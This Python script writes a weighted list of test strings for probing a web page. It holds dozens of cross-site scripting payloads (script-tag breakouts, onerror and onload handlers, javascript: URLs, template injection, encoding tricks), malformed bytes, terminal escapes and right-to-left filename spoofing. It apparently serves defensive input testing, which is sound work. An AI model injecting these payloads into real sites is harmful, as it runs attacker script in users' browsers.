#!/usr/bin/env python3
"""Keys that break a careless page, each a line: markup and scripts in every place a text may stand, bytes that are no
text, characters that turn text around.  Some come several times, so that the ranking has an order."""
import sys

RUN = b'window.pwned=1'
KEYS = [
    b'<script>%s</script>', b'</script><script>%s</script>', b'</style><script>%s</script>', b'--><script>%s</script>',
    b'</title><script>%s</script>', b'</textarea><script>%s</script>', b']]><script>%s</script>', b'<ScRiPt >%s</sCrIpT >',
    b'<img src=x onerror=%s>', b'"><img src=x onerror="%s">', b"'><img src=x onerror='%s'>", b'`><img src=x onerror=%s>',
    b'<svg onload=%s>', b'<svg><script>%s</script></svg>', b'<svg/onload=%s//', b'<body onload=%s>',
    b'" onfocus="%s" autofocus x="', b"' onfocus='%s' autofocus x='", b' onmouseover=%s ', b'<details open ontoggle=%s>',
    b'<iframe srcdoc="<script>parent.%s</script>">', b'<a href="javascript:%s">x</a>', b'javascript:%s',
    b'data:text/html,<script>%s</script>', b'<math><mtext><table><mglyph><style><img src=x onerror=%s>',
    b'<style>*{display:none}</style>%s', b'<base href="http://192.0.2.1/">%s', b'<meta http-equiv=refresh content="0;%s">',
    b'<link rel=stylesheet href=http://192.0.2.1/%s>', b'<form action=http://192.0.2.1/><button>%s', b'</table></body></html>%s',
    b'&lt;script&gt;%s&lt;/script&gt;', b'&#60;script&#62;%s', b'{{constructor.constructor("%s")()}}', b'${%s}',
    b'<!--%s', b'<![CDATA[<script>%s</script>]]>', b'<?xml %s?>', b'<plaintext>%s', b'<noscript><p title="</noscript><img src=x onerror=%s>">',
    b'<scr\x00ipt>%s</script>', b'\xff<script>%s</script>', b'\xc0\xbcscript\xc0\xbe%s', b'\xef\xbc\x9cscript\xef\xbc\x9e%s',
    b'+ADw-script+AD4-%s', b'\xe2\x80\xa8%s', b'\xe2\x80\xae<script>%s',
]
BYTES = [
    b'', b' ', b'  two  blanks ', b'\ttab', b'a\x00b', b'\x1b[31mred\x07', b'\x1b]0;title\x07', b'\x08\x08', b'x\ry', b'\x7f', b'\x0b\x0c',
    b'\xff', b'\xfe\xff', b'\xc3', b'\xc0\xaf', b'\xed\xa0\x80', b'\xf4\x90\x80\x80', b'\xf0\x9f\x98', b'\xc2\x9b31m', b'\x9b31m',
    b'\xe2\x80\xaegnp.exe', b'\xe2\x81\xa6isolate', b'\xd8\x9c', b'\xe2\x80\x8b', b'\xef\xbb\xbfbom', b'\xc2\xad', b'\xf3\xa0\x81\x81tag',
    b'\\x1b', b'\\u202e', b'\xc3\xa9', b'\xf0\x9f\x98\x80', b'\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d /abc', b'Z' + b'\xcd\x91' * 90, b'&', b'<', b'>',
    b'"', b"'", b'a,b', b'/long?' + b'A' * 70000, b'/' + b'very-long/' * 30, b'W' * 199, b'W' * 200, b'W' * 201,
]

keys = [key.replace(b'%s', RUN) for key in KEYS] + BYTES
sys.stdout.buffer.write(b''.join((key + b'\n') * (1 + len(keys) // (i + 1)) for i, key in enumerate(keys)))
